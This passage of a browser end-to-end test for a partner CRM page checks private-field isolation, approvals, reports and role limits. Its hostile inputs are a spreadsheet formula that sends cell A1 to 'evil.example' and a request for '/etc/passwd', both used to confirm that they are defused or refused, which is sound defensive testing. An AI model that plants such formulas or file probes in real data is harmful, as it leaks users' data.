// tests/e2e/web.test.mjs - the web page's browser test, run by
// tests/e2e/web.sh with ACME, GLOBEX (the nodes' page addresses),
// GLOBEX_ORG, CHROMIUM, SHOTS (screenshot folder) and WEB (node/web, for
// its pinned playwright-core). The steps read as a user's: roles and
// labels, never CSS paths. Prints "N passed, 0 failed" at the end.
import {createRequire} from 'node:module';
import assert from 'node:assert/strict';
import {readFileSync} from 'node:fs';
import {Buffer} from 'node:buffer';

const require = createRequire(`${process.env.WEB}/package.json`);
const {chromium} = require('playwright-core');
const {ACME, GLOBEX, GLOBEX_ORG, CHROMIUM, SHOTS} = process.env;
const CANARY = `98765${Math.floor(Math.random() * 9000 + 1000)}`; // deal size digits
const NOTE = `CANARY-NOTE-${Math.random().toString(36).slice(2, 10)}`;
const ATTACHED = `terms of the deal ${Math.random().toString(36).slice(2, 10)}\n`;
const T = 20000;
let passed = 0;
const debug = [];
let stepStart = Date.now();
function ok(what) {
  passed++;
  console.log(`ok ${passed} - ${what} (${Date.now() - stepStart} ms)`);
  stepStart = Date.now();
}

async function shot(page, name) {
  await page.screenshot({path: `${SHOTS}/${name}.png`, fullPage: true});
}

// What a failure report shows: each refused request, with the node's body.
const refused = [];
function watch(page, who) {
  page.on('response', async (r) => {
    if (r.status() < 400) return;
    let body = '';
    try { body = (await r.text()).slice(0, 300); } catch (e) { /* gone */ }
    refused.push(`${new Date().toISOString()} ${who} ${r.request().method()} ${r.url()} -> ${r.status()} ${body}`);
  });
}

// A context of its own (cookies, sessionStorage) logged in as user.
async function login(base, user, password, options = {}) {
  const context = await browser.newContext({viewport: {width: 1280, height: 800}, ...options});
  const page = await context.newPage();
  page.setDefaultTimeout(T);
  watch(page, user);
  await page.goto(`${base}/`);
  await page.getByLabel('User').fill(user);
  await page.getByLabel('Password').fill(password);
  await page.getByRole('button', {name: 'Log in'}).click();
  await page.getByRole('button', {name: 'Log out'}).waitFor();
  return {context, page};
}

// Everything a page receives: response bodies, event-stream messages.
async function record(context, page) {
  const seen = [];
  page.on('response', async (r) => {
    if ((r.headers()['content-type'] || '').startsWith('text/event-stream')) return;
    try {
      seen.push(`${r.url()} ${await r.text()}`);
    } catch (e) { /* a body gone with a navigation */ }
  });
  page.on('request', (r) => seen.push(r.url()));
  const cdp = await context.newCDPSession(page);
  await cdp.send('Network.enable');
  cdp.on('Network.eventSourceMessageReceived', (m) => {
    seen.push(`event ${m.eventName} ${m.data}`);
    debug.push(`event ${m.eventName} ${m.data}`);
  });
  return seen;
}

// Polls fn(arg) in the page until it resolves truthy, for at most T ms
// (page.waitForFunction does not wait for an async predicate's promise).
async function until(page, fn, arg) {
  for (const end = Date.now() + T; Date.now() < end;) {
    if (await page.evaluate(fn, arg)) return;
    await new Promise((r) => setTimeout(r, 200));
  }
  throw new Error(`until: not true after ${T} ms: ${fn}`);
}

const column = (page, stage) => page.getByRole('region', {name: stage, exact: true});
const card = (page, stage, name) => column(page, stage).getByRole('listitem', {name});

async function run() {
  // the page and its headers
  const r = await fetch(`${ACME}/`);
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-type'), /^text\/html/);
  const csp = r.headers.get('content-security-policy');
  assert.match(csp, /script-src 'self'/);
  assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
  assert.match(csp, /frame-ancestors 'none'/);
  assert.equal(r.headers.get('x-frame-options'), 'DENY');
  const js = await fetch(`${ACME}/app.js`);
  assert.match(js.headers.get('content-type'), /^text\/javascript/);
  assert.equal((await fetch(`${ACME}/board`)).status, 200);
  assert.equal((await fetch(`${ACME}/nothing.js`)).status, 401); // not the page's: the API's, which wants a credential
  assert.equal((await fetch(`${ACME}/v1/objects`)).status, 401);
  ok('the node serves the page with its security headers; the API still needs a credential');

  // two orgs log in
  const [acme, globex] = await Promise.all([login(ACME, 'alice', 'Acme-password-42'),
    login(GLOBEX, 'gina', 'Globex-password-42')]);
  const gseen = await record(globex.context, globex.page);
  ok('Acme and Globex log in');

  // Acme creates an opportunity with a private deal size
  const a = acme.page;
  await a.getByLabel('Name').fill('Canary Deal');
  await a.getByLabel('Deal size').fill(`${CANARY} EUR`);
  await a.getByRole('button', {name: 'Create'}).click();
  await a.getByRole('heading', {name: /Canary Deal/}).waitFor();
  const id = a.url().match(/objects\/([0-9a-f]{64})/)[1];
  const priv = a.getByRole('region', {name: 'Private fields'});
  await priv.getByText(`${CANARY}.00 EUR`).waitFor();
  // money: an amount and a currency from the list, the value's own first
  await priv.getByRole('button', {name: 'Edit Deal size'}).click();
  assert.equal(await priv.getByLabel('Deal size currency').inputValue(), 'EUR');
  assert.equal(await priv.getByLabel('Deal size amount').inputValue(), `${CANARY}.00`);
  await priv.getByLabel('Deal size amount').fill(`${CANARY}.50`);
  await priv.getByLabel('Deal size currency').selectOption('USD');
  await priv.getByRole('button', {name: 'Save'}).click();
  await priv.getByText(`${CANARY}.50 USD`).waitFor();
  await priv.getByRole('button', {name: 'Edit Internal notes'}).click();
  await priv.getByLabel('Internal notes').fill(NOTE);
  await priv.getByRole('button', {name: 'Save'}).click();
  await priv.getByText(NOTE).waitFor();
  const shared = a.getByRole('region', {name: 'Shared fields'});
  await shared.getByRole('button', {name: 'Edit Region'}).click();
  await shared.getByRole('combobox', {name: 'Region'}).selectOption('EMEA');
  await shared.getByRole('button', {name: 'Save'}).click();
  await shared.getByText('EMEA').waitFor();
  await shared.getByRole('button', {name: 'Edit Close date'}).click();
  await shared.getByLabel('Close date').fill('2027-03-31');
  await shared.getByRole('button', {name: 'Save'}).click();
  await shared.getByText('2027-03-31').waitFor();
  assert.ok(await priv.getByRole('img', {name: 'private'}).count() >= 4, 'a lock on every private field');
  await a.getByRole('button', {name: 'Invite a partner'}).click();
  const token = await a.getByLabel('Invite token').inputValue();
  assert.ok(token.length > 40);
  await a.getByRole('link', {name: 'Inbox'}).click();
  const pending = a.getByRole('region', {name: 'Pending invites'}).getByRole('listitem');
  await pending.filter({hasText: id.slice(0, 12)}).filter({hasText: 'member'}).waitFor();
  await a.goto(`${ACME}/objects/${id}`);
  await a.getByRole('region', {name: 'Private fields'}).getByText(NOTE).waitFor();
  await shot(a, 'acme-object');
  ok('Acme creates the opportunity with a private deal size, edits money (amount and currency), private, enum and date fields inline, invites Globex (the invite waits in its inbox)');

  // the object page's activity timeline and attachments
  const activity = a.getByRole('region', {name: 'Activity'});
  await activity.getByRole('listitem').filter({hasText: 'alice'}).filter({hasText: 'created this opportunity'}).waitFor();
  await activity.getByRole('listitem').filter({hasText: 'set region = EMEA'}).waitFor();
  await activity.getByRole('listitem').filter({hasText: 'close_date = 2027-03-31'}).waitFor();
  const privEntry = activity.getByRole('listitem').filter({hasText: NOTE});
  await privEntry.waitFor();
  assert.equal(await privEntry.getByRole('img', {name: 'private'}).count(), 1, 'a lock on the private entry');
  const files = a.getByRole('region', {name: 'Attachments'});
  await files.getByText('No attachment.').waitFor();
  await files.getByLabel('File to attach').setInputFiles({name: 'terms.txt', mimeType: 'text/plain', buffer: Buffer.from(ATTACHED)});
  await files.getByRole('button', {name: 'Attach', exact: true}).click();
  const fileRow = files.getByRole('row', {name: /terms\.txt/});
  await fileRow.getByRole('cell', {name: 'Acme'}).waitFor();
  const [att] = await Promise.all([a.waitForEvent('download'),
    fileRow.getByRole('button', {name: 'Download terms.txt'}).click()]);
  assert.equal(att.suggestedFilename(), 'terms.txt');
  assert.equal(readFileSync(await att.path(), 'utf8'), ATTACHED);
  const tooBig = await a.evaluate(async (id) => {
    const me = await (await fetch('/v1/access/me')).json();
    const r = await fetch(`/v1/objects/${id}/attachments`, {
      method: 'POST',
      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': me.csrf},
      body: JSON.stringify({name: 'x', content: 'not base64!'}),
    });
    const p = await fetch(`/v1/objects/${id}/attachments`, {
      method: 'POST',
      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': me.csrf},
      body: JSON.stringify({path: '/etc/passwd'}),
    });
    return [r.status, (await r.json()).error.field, p.status];
  }, id);
  assert.deepEqual(tooBig, [400, 'content', 403]);
  await shot(a, 'acme-object-activity');
  ok('the activity timeline shows who changed what (a lock on the private entry); a file is attached from the page and downloaded back; bad content and file paths are refused over TCP');

  // Globex keeps its board open in a second tab, joins from its inbox
  const gBoard = await globex.context.newPage();
  gBoard.setDefaultTimeout(T);
  const gseen2 = await record(globex.context, gBoard);
  await gBoard.goto(`${GLOBEX}/board`);
  await column(gBoard, 'Prospecting').waitFor();
  const g = globex.page;
  await g.getByRole('link', {name: 'Inbox'}).click();
  // a mistyped token is named as such; the right one is previewed (what
  // it holds, read by Globex's node) before Globex joins with it
  await g.getByLabel('Invite token').fill(token.slice(0, -3) + (token.endsWith('aaa') ? 'bbb' : 'aaa'));
  await g.getByRole('region', {name: 'Invite preview'}).getByRole('alert').waitFor();
  await g.getByLabel('Invite token').fill(token);
  const preview = g.getByRole('region', {name: 'Invite preview'});
  await preview.getByText(id.slice(0, 12)).waitFor();
  const aorg = await a.evaluate(async () => (await (await fetch('/v1/status')).json()).org);
  await preview.getByText(aorg).waitFor();
  assert.match(await preview.textContent(), /opportunity/);
  await g.getByRole('button', {name: 'Join'}).click();
  await g.getByRole('heading', {name: /Canary Deal/}).waitFor();
  ok('Globex previews the invite (object, inviter, role, expiry; a mistyped token refused) and joins from its own page');
  await card(gBoard, 'Prospecting', 'Canary Deal').waitFor();
  await shot(gBoard, 'globex-board');
  ok('Globex\'s open board shows the card live');

  // Acme's board, then Globex drags the card to the next stage
  await a.getByRole('link', {name: 'Board'}).click();
  await card(a, 'Prospecting', 'Canary Deal').waitFor();
  await card(gBoard, 'Prospecting', 'Canary Deal').dragTo(column(gBoard, 'Qualification'));
  await card(gBoard, 'Qualification', 'Canary Deal').waitFor();
  await card(a, 'Qualification', 'Canary Deal').waitFor();
  await shot(a, 'acme-board');
  ok('Globex drags the card to Qualification and Acme\'s board follows');

  // the workflow: a move the rules do not allow is refused with the reason
  const rules = await a.evaluate(async ({id, gorg}) => {
    const me = await (await fetch('/v1/access/me')).json();
    const r = await fetch(`/v1/objects/${id}/rules`, {
      method: 'PUT',
      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': me.csrf},
      body: JSON.stringify({transitions: [
        {from: 'Prospecting', to: 'Qualification'},
        {from: 'Qualification', to: 'Solution', approvals: [{step: 'partner', by: `org:${gorg}`}]},
      ], field_owners: {}}),
    });
    return r.status;
  }, {id, gorg: GLOBEX_ORG});
  assert.equal(rules, 200);
  await card(a, 'Qualification', 'Canary Deal').dragTo(column(a, 'Closed Won'));
  await a.getByRole('alert').filter({hasText: /Cannot move to Closed Won: .*rules/}).waitFor();
  assert.equal(await card(a, 'Qualification', 'Canary Deal').count(), 1);
  await a.getByRole('button', {name: 'Move Canary Deal to Solution'}).click();
  await a.getByRole('alert').filter({hasText: /approval "partner"/}).waitFor();
  await shot(a, 'acme-board-refused');
  ok('a move the workflow does not allow is refused with the rule\'s reason');

  // the approval round trip through Globex's inbox
  await g.getByRole('link', {name: 'Inbox'}).click();
  const approval = g.getByRole('region', {name: 'Approvals'}).getByRole('listitem').filter({hasText: 'partner'});
  await approval.waitFor();
  await shot(g, 'globex-inbox');
  await approval.getByRole('button', {name: 'Approve'}).click();
  await g.getByText('Nothing to approve.').waitFor();
  // Globex's approval reaches Acme's node by gossip; a user would wait
  // for it too (clicking earlier is refused, rightly, for want of it)
  // (the rules view: the approval is there and counts; no step waits)
  await until(a, async (id) => {
    const r = await fetch(`/v1/objects/${id}/rules`);
    if (!r.ok) return false;
    const v = await r.json();
    return v.decisions.some((d) => d.step === 'partner' && d.decision === 'approved' && d.counts) &&
      !v.waiting.some((w) => w.step === 'partner');
  }, id);
  // the move goes through: the node takes it, the card in its new column
  const [moved] = await Promise.all([
    a.waitForResponse((r) => r.url().endsWith(`/v1/objects/${id}/stage`) && r.request().method() === 'POST'),
    a.getByRole('button', {name: 'Move Canary Deal to Solution'}).click(),
  ]);
  if (!moved.ok()) {
    const view = await a.evaluate(async (id) => (await fetch(`/v1/objects/${id}/rules`)).text(), id);
    throw new Error(`the approved move was refused: ${moved.status()} ${await moved.text()}; rules view: ${view}`);
  }
  await card(a, 'Solution', 'Canary Deal').waitFor();
  await card(gBoard, 'Solution', 'Canary Deal').waitFor();
  ok('Globex approves in its inbox; Acme\'s move then goes through on both boards');

  // the report chart
  await a.getByRole('link', {name: 'Reports'}).click();
  await a.getByRole('img', {name: 'Objects per stage'}).waitFor();
  await a.getByRole('cell', {name: 'Solution'}).waitFor();
  const painted = await a.getByRole('img', {name: 'Objects per stage'}).evaluate((c) => {
    const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
    let n = 0;
    for (let i = 0; i < d.length; i += 4) if (d[i + 3] > 0) n++;
    return n;
  });
  assert.ok(painted > 1000, `the chart is drawn (${painted} pixels)`);
  const [png] = await Promise.all([a.waitForEvent('download'),
    a.getByRole('button', {name: 'Download PNG'}).click()]);
  assert.deepEqual([...readFileSync(await png.path()).subarray(1, 4)], [0x50, 0x4e, 0x47]); // "PNG"
  const [rcsv] = await Promise.all([a.waitForEvent('download'),
    a.getByRole('button', {name: 'Download CSV'}).click()]);
  // the node's columns: keys, the measures, money one column per currency
  const rlines = readFileSync(await rcsv.path(), 'utf8').split('\r\n');
  assert.equal(rlines[0], 'stage,count,open,closed,won,lost,amount USD,open_amount USD', rlines[0]);
  assert.deepEqual(rlines.slice(1), [`Solution,1,1,0,0,0,${CANARY}.50,${CANARY}.50`,
    `total,1,1,0,0,0,${CANARY}.50,${CANARY}.50`, '']);
  await shot(a, 'acme-reports');
  // every kind of report: its chart, its table, its CSV (the deal is
  // sourced by Globex: the partner column names it in the table, the CSV
  // has the node's org id)
  assert.equal(await a.evaluate(async ([oid, g]) => {
    const me = await (await fetch('/v1/access/me')).json();
    return (await fetch(`/v1/objects/${oid}`, {method: 'POST',
      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': me.csrf},
      body: JSON.stringify({set: {sourced_by: g}})})).status;
  }, [id, GLOBEX_ORG]), 200);
  await a.getByLabel('Saved view').selectOption('');
  for (const [kind, chart, column, header] of [
    ['Attribution', 'Sourced and influenced per partner', 'sourced_count', 'partner,sourced_count,'],
    ['Win rate', 'Win rate per partner, quarter', 'win_rate', 'partner,quarter,count,won,lost,win_rate'],
    ['Deal size', 'Won deals per partner, quarter', 'won', 'partner,quarter,won'],
    ['Cycle time', 'Days to close per partnered', 'avg_days_to_close', 'partnered,count,reached Prospecting,'],
    ['MDF', 'MDF requests per program, partner', 'requests', 'program,partner,requests,'],
    ['Plans', 'Won opportunities per plan', 'plan', 'plan'],
  ]) {
    await a.getByRole('combobox', {name: /^Report/}).selectOption({label: kind});
    await a.getByRole('img', {name: chart}).waitFor();
    await a.getByRole('columnheader', {name: column, exact: true}).waitFor();
    const [kcsv] = await Promise.all([a.waitForEvent('download'),
      a.getByRole('button', {name: 'Download CSV'}).click()]);
    const kl = readFileSync(await kcsv.path(), 'utf8').split('\r\n');
    assert.ok(kl[0].startsWith(header), `${kind}: ${kl[0]}`);
    if (kind === 'Win rate') assert.deepEqual(kl.slice(1), [`${GLOBEX_ORG},2027-Q1,1,0,0,`, 'total,,1,0,0,', '']);
    if (kind === 'Attribution') {
      await a.getByRole('cell', {name: 'Globex', exact: true}).waitFor();
      assert.ok(kl[1].startsWith(`${GLOBEX_ORG},1,1,0,0,`), `Attribution: ${kl[1]}`);
    }
    if (kind === 'MDF') assert.ok(kl[1].includes(',1,600.00,500.00,450.00,'), `MDF: ${kl[1]}`);
    if (kind === 'Win rate') await shot(a, 'acme-report-win-rate');
  }
  await a.getByRole('combobox', {name: /^Report/}).selectOption({label: 'Pipeline'});
  await a.getByRole('img', {name: 'Objects per stage'}).waitFor();
  await a.getByLabel('Group by').fill('region');
  await a.getByRole('button', {name: 'Show'}).click();
  await a.getByRole('cell', {name: 'EMEA'}).waitFor();
  await a.getByLabel('View name').fill('by-region');
  await a.getByRole('button', {name: 'Save as view'}).click();
  await a.getByRole('status').filter({hasText: 'Saved as view by-region'}).waitFor();
  await a.getByLabel('Group by').fill('stage');
  await a.getByRole('button', {name: 'Show'}).click();
  await a.getByRole('cell', {name: 'Solution'}).waitFor();
  await a.getByLabel('Saved view').selectOption('by-region');
  await a.getByRole('heading', {name: 'View by-region'}).waitFor();
  await a.getByRole('cell', {name: 'EMEA'}).waitFor();
  await shot(a, 'acme-saved-view');
  ok('the report chart renders; PNG and CSV downloads; every kind of report with its chart, table and CSV; grouped by another column, saved as a view and opened again');

  // Acme's inbox: an MDF claim to review, deal registrations with their
  // conflicts (web.sh made them; Acme's own program is their approver)
  await a.getByRole('link', {name: 'Inbox'}).click();
  const claims = a.getByRole('region', {name: 'Claims to review'});
  await claims.getByRole('listitem', {name: 'Claim Q3 roadshow'})
    .filter({hasText: '450.00 EUR claimed of 500.00 EUR approved'}).filter({hasText: 'roadshow-photos.zip'}).waitFor();
  await claims.getByRole('button', {name: 'Approve the claim Q3 roadshow'}).click();
  await claims.getByText('No claim waiting.').waitFor();
  const regs = a.getByRole('region', {name: 'Deal registrations'});
  const reg1 = regs.getByRole('listitem', {name: 'Registration Initech backup', exact: true});
  const reg2 = regs.getByRole('listitem', {name: 'Registration Initech backup 2', exact: true});
  await reg1.filter({hasText: '2 likely conflicts'}).waitFor();
  await reg1.getByRole('list', {name: 'Conflicts of Initech backup'}).getByRole('listitem')
    .filter({hasText: '100 domain: registration'}).filter({hasText: 'same solution'}).waitFor();
  await shot(a, 'acme-inbox-registrations');
  assert.ok(await regs.getByRole('button', {name: 'Approve the registration Initech backup', exact: true}).isDisabled(),
    'approving a registration needs an expiry date');
  await a.getByLabel('Expiry date for Initech backup', {exact: true}).fill('2099-12-31');
  await regs.getByRole('button', {name: 'Approve the registration Initech backup', exact: true}).click();
  await reg1.waitFor({state: 'detached'});
  // the other registration of the account and solution now meets one
  // that holds: approving it too is refused with the node's reason
  await reg2.getByRole('listitem').filter({hasText: 'approved and unexpired'}).waitFor();
  await a.getByLabel('Expiry date for Initech backup 2').fill('2099-12-31');
  await regs.getByRole('button', {name: 'Approve the registration Initech backup 2'}).click();
  await a.getByRole('alert').filter({hasText: 'at most one approved'}).waitFor();
  await a.getByLabel('Reason for a rejection').fill('Initech is registered already');
  await regs.getByRole('button', {name: 'Reject the registration Initech backup 2'}).click();
  await reg2.waitFor({state: 'detached'});
  await regs.getByRole('listitem', {name: 'Registration Initech storage'}).filter({hasText: '2 likely conflicts'}).waitFor();
  const stages = await a.evaluate(async () => {
    const list = async (t) => (await (await fetch(`/v1/objects?type=${t}`)).json());
    return [...await list('mdf_request'), ...await list('deal_registration')].map((o) => `${o.title}=${o.stage}`).sort();
  });
  assert.deepEqual(stages, ['Initech backup 2=Rejected', 'Initech backup=Approved', 'Initech storage=Submitted',
    'Q3 roadshow=Claim Approved'], stages.join());
  ok('Acme reviews an MDF claim (approved, then Claim Approved) and deal registrations in its inbox: conflicts shown, approved with an expiry date, a second approval refused, rejected with a reason');

  // the table: filter by stage and name, sort, CSV of what is shown
  await a.getByRole('link', {name: 'Table'}).click();
  await a.getByRole('link', {name: 'Canary Deal'}).waitFor();
  await a.getByLabel('Stage').selectOption('Proposal');
  await a.getByRole('status').filter({hasText: '0 of 0 shown'}).waitFor();
  await a.getByLabel('Stage').selectOption('Solution');
  await a.getByRole('status').filter({hasText: '1 of 1 shown'}).waitFor();
  await a.getByLabel('Name contains').fill('no such deal');
  await a.getByRole('status').filter({hasText: '0 of 1 shown'}).waitFor();
  await a.getByLabel('Name contains').fill('canary');
  await a.getByRole('button', {name: 'Name'}).click();
  await a.getByRole('columnheader', {name: 'Name'}).and(a.locator('[aria-sort="descending"]')).waitFor();
  const [download] = await Promise.all([a.waitForEvent('download'),
    a.getByRole('button', {name: 'Download CSV'}).click()]);
  const csv = readFileSync(await download.path(), 'utf8');
  assert.match(csv, /^Name,Stage,Close date\r\nCanary Deal,Solution,2027-03-31\r\n$/);
  await shot(a, 'acme-table');
  assert.match(a.url(), /\/table\?stage=Solution&q=canary&sort=-title$/);
  await a.reload();
  await a.getByRole('status').filter({hasText: '1 of 1 shown'}).waitFor();
  assert.equal(await a.getByLabel('Stage').inputValue(), 'Solution');
  assert.equal(await a.getByLabel('Name contains').inputValue(), 'canary');
  await a.getByRole('columnheader', {name: 'Name'}).and(a.locator('[aria-sort="descending"]')).waitFor();
  // a named table view, kept on the node: saved, chosen on a plain table,
  // it sets the filters and the sort again; then removed
  await a.getByLabel('Table view name').fill('solution-canary');
  await a.getByRole('button', {name: 'Save table view'}).click();
  await a.getByRole('status').filter({hasText: 'Saved table view solution-canary'}).waitFor();
  await a.goto(`${ACME}/table`);
  await a.getByRole('link', {name: 'Canary Deal'}).waitFor();
  assert.equal(await a.getByLabel('Stage').inputValue(), '');
  await a.getByLabel('Saved table view').selectOption('solution-canary');
  await a.getByRole('columnheader', {name: 'Name'}).and(a.locator('[aria-sort="descending"]')).waitFor();
  // the view's filters and the address follow the sort in a later render:
  // wait for the address (it failed now and then under load when read at
  // once)
  await until(a, () => location.pathname + location.search === '/table?stage=Solution&q=canary&sort=-title');
  assert.equal(await a.getByLabel('Stage').inputValue(), 'Solution');
  assert.equal(await a.getByLabel('Name contains').inputValue(), 'canary');
  assert.match(a.url(), /\/table\?stage=Solution&q=canary&sort=-title$/);
  await a.getByRole('button', {name: 'Remove table view'}).click();
  await a.getByRole('status').filter({hasText: 'Removed table view solution-canary'}).waitFor();
  assert.equal(await a.getByLabel('Saved table view').getByRole('option').count(), 1);
  // a name a spreadsheet would run as a formula is downloaded with an
  // apostrophe in front (spec/crm.md "Formulas"); plain numbers are not
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"formula canary")';
  const made = await a.evaluate(async (name) => {
    const me = await (await fetch('/v1/access/me')).json();
    const r = await fetch('/v1/objects', {method: 'POST',
      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': me.csrf},
      body: JSON.stringify({type: 'opportunity', set: {name}})});
    return r.status;
  }, formula);
  assert.equal(made, 201);
  await a.goto(`${ACME}/table?q=formula`);
  await a.getByRole('status').filter({hasText: '1 of 2 shown'}).waitFor();
  const [fdl] = await Promise.all([a.waitForEvent('download'),
    a.getByRole('button', {name: 'Download CSV'}).click()]);
  assert.match(readFileSync(await fdl.path(), 'utf8'),
    /^Name,Stage,Close date\r\n"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""formula canary""\)",Prospecting,\r\n$/);
  ok('the table filters by stage and name, sorts, and downloads what it shows as CSV (a formula behind an apostrophe); its address keeps the filters and sort across a reload; a named table view kept on the node sets them again, and is removed');

  // partners: each side sees the other connected, with the same safety code
  await a.getByRole('link', {name: 'Partners'}).click();
  const aRow = a.getByRole('row', {name: 'Globex'});
  await aRow.getByRole('cell', {name: 'Connected'}).waitFor();
  await g.getByRole('link', {name: 'Partners'}).click();
  const gRow = g.getByRole('row', {name: 'Acme'});
  await gRow.getByRole('cell', {name: 'Connected'}).waitFor();
  const code = (await aRow.locator('.safety').textContent()).trim();
  assert.match(code, /^\d{5}( \d{5}){5,}$/);
  assert.equal((await gRow.locator('.safety').textContent()).trim(), code);
  await a.getByRole('button', {name: /^Run account overlap with/}).click();
  await a.getByRole('status').filter({hasText: '2 matching accounts'}).waitFor();
  const matches = a.getByRole('table', {name: /^Matching accounts with/});
  await matches.getByRole('row', {name: /Initech/}).waitFor();
  await matches.getByRole('row', {name: /Umbrella/}).waitFor();
  assert.equal(await matches.getByRole('row', {name: /Hooli/}).count(), 0);
  await shot(a, 'acme-partners');
  ok('the partners view shows Globex connected, with the safety code Globex shows for Acme; an account overlap run from the page finds the two accounts in common');

  // the canary: no private value of Acme's reaches Globex's browser
  await g.goto(`${GLOBEX}/objects/${id}`);
  await g.getByRole('heading', {name: /Canary Deal/}).waitFor();
  const gActivity = g.getByRole('region', {name: 'Activity'});
  await gActivity.getByRole('listitem').filter({hasText: 'Acme'}).filter({hasText: 'created this opportunity'}).waitFor();
  await gActivity.getByRole('listitem').filter({hasText: 'gina'}).filter({hasText: 'moved it to Qualification'}).waitFor();
  const gFile = g.getByRole('region', {name: 'Attachments'}).getByRole('row', {name: /terms\.txt/});
  await gFile.waitFor();
  const gDownload = gFile.getByRole('button', {name: 'Download terms.txt'});
  await gFile.getByRole('button', {name: 'Fetch terms.txt'}).or(gDownload).waitFor();
  if (!(await gDownload.count())) // the chunks come from Acme when asked
    await gFile.getByRole('button', {name: 'Fetch terms.txt'}).click();
  await gDownload.waitFor();
  const [gatt] = await Promise.all([g.waitForEvent('download'), gDownload.click()]);
  assert.equal(readFileSync(await gatt.path(), 'utf8'), ATTACHED);
  await shot(g, 'globex-object');
  for (const p of [g, gBoard]) {
    const dom = await p.content();
    assert.ok(!dom.includes(CANARY) && !dom.includes(NOTE), 'canary in Globex DOM');
  }
  const all = gseen.concat(gseen2).join('\n');
  assert.ok(all.includes('event '), 'Globex received events');
  assert.ok(all.includes('Canary Deal'), 'Globex received the shared name');
  assert.ok(!all.includes(CANARY) && !all.includes(NOTE), 'canary in what Globex received');
  ok('the deal size is in no response, DOM or event Globex\'s browser receives; Globex\'s timeline shows Acme\'s and its own changes, and it fetches and downloads the attachment');

  // the hide-private switch
  await a.goto(`${ACME}/objects/${id}`);
  await a.getByRole('region', {name: 'Private fields'}).getByText(NOTE).waitFor();
  assert.ok((await a.content()).includes(CANARY));
  await activity.getByRole('listitem').filter({hasText: 'Globex'}).filter({hasText: 'moved it to Qualification'}).waitFor();
  await activity.getByRole('listitem').filter({hasText: 'Globex'}).filter({hasText: 'joined with an invite (member)'}).waitFor();
  await activity.getByRole('listitem').filter({hasText: NOTE}).waitFor();
  await a.getByRole('button', {name: 'Remove Globex'}).waitFor(); // the owner may
  await a.getByRole('switch', {name: 'Hide private fields'}).check();
  await a.getByRole('region', {name: 'Shared fields'}).waitFor();
  const noPrivate = async () => {
    const dom = await a.content();
    assert.ok(!dom.includes(CANARY) && !dom.includes(NOTE), 'a private value in the DOM');
    assert.equal(await a.getByRole('region', {name: 'Private fields'}).count(), 0);
  };
  await a.waitForFunction(([c]) => !document.body.innerHTML.includes(c), [NOTE]);
  await activity.getByRole('listitem').filter({hasText: 'changed private fields (hidden)'}).first().waitFor();
  await noPrivate();
  await a.reload();
  await a.getByRole('heading', {name: /Canary Deal/}).waitFor();
  assert.ok(await a.getByRole('switch', {name: 'Hide private fields'}).isChecked());
  await noPrivate();
  await a.getByRole('link', {name: 'Board'}).click();
  await card(a, 'Solution', 'Canary Deal').waitFor();
  await noPrivate();
  await shot(a, 'acme-board-hidden');
  // the reports: every kind runs with hide_private=1 (the deal size, a
  // private field of Acme's, is in no table or CSV)
  await a.getByRole('link', {name: 'Reports'}).click();
  await a.getByRole('cell', {name: 'Solution'}).waitFor();
  await noPrivate();
  for (const kind of ['Attribution', 'Win rate', 'Deal size', 'Cycle time', 'MDF', 'Plans', 'Pipeline']) {
    await a.getByRole('combobox', {name: /^Report/}).selectOption({label: kind});
    await a.getByRole('figure').filter({hasText: /objects|groups/}).waitFor();
    await noPrivate();
  }
  const [hcsv] = await Promise.all([a.waitForEvent('download'),
    a.getByRole('button', {name: 'Download CSV'}).click()]);
  assert.ok(!readFileSync(await hcsv.path(), 'utf8').includes(CANARY), 'the deal size in the CSV');
  assert.equal(await a.evaluate(() => localStorage.length), 0);
  ok('Hide private fields removes every private value from the DOM (the timeline\'s and every report\'s too), across navigation and reload');

  // a viewer: edit controls disabled, a forced request refused
  const viewer = await login(ACME, 'vic', 'Viewer-password-42');
  const v = viewer.page;
  await v.goto(`${ACME}/objects/${id}`);
  await v.getByRole('heading', {name: /Canary Deal/}).waitFor();
  assert.ok(await v.getByRole('button', {name: 'Edit Opportunity name'}).isDisabled());
  assert.ok(await v.getByRole('button', {name: 'Add comment'}).isDisabled());
  assert.ok(await v.getByRole('button', {name: 'Proposal'}).isDisabled());
  const forced = await v.evaluate(async (id) => {
    const me = await (await fetch('/v1/access/me')).json();
    const r = await fetch(`/v1/objects/${id}`, {
      method: 'POST',
      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': me.csrf},
      body: JSON.stringify({set: {name: 'Hijacked'}}),
    });
    return [r.status, (await r.json()).error.code];
  }, id);
  assert.deepEqual(forced, [403, 'ENT_EDENIED']);
  await shot(v, 'viewer-object');
  assert.ok(await v.getByRole('button', {name: 'Attach', exact: true}).isDisabled());
  ok('a viewer\'s edit controls are disabled and a forced request is refused');

  // administration: for admins only
  assert.equal(await v.getByRole('link', {name: 'Admin', exact: true}).count(), 0);
  await v.goto(`${ACME}/admin`);
  await v.getByRole('alert').filter({hasText: 'Only an admin'}).waitFor();
  const vUsers = await v.evaluate(async () => {
    const r = await fetch('/v1/users');
    const p = await fetch('/v1/policies');
    return [r.status, p.status];
  });
  assert.deepEqual(vUsers, [403, 403]);
  await a.getByRole('link', {name: 'Admin', exact: true}).click();
  const users = a.getByRole('table', {name: 'Users'});
  await users.getByRole('row', {name: /^vic/}).getByRole('cell', {name: 'viewer'}).waitFor();
  await a.getByLabel('User name').fill('bob');
  await a.getByLabel('Role').selectOption('member');
  await a.getByLabel('Password', {exact: true}).fill('Bob-password-4242');
  await a.getByRole('button', {name: 'Add user'}).click();
  await users.getByRole('row', {name: /^bob/}).getByRole('cell', {name: 'member'}).waitFor();
  await a.getByRole('button', {name: 'Disable bob'}).click();
  await users.getByRole('row', {name: /^bob/}).getByRole('cell', {name: 'disabled'}).waitFor();
  const policies = a.getByRole('table', {name: 'Access policies'});
  await policies.getByRole('cell', {name: 'allow role=viewer read *'}).waitFor();
  await a.getByRole('textbox', {name: 'Rule'}).fill('deny role=member read opportunity.deal_size');
  await a.getByRole('button', {name: 'Add rule'}).click();
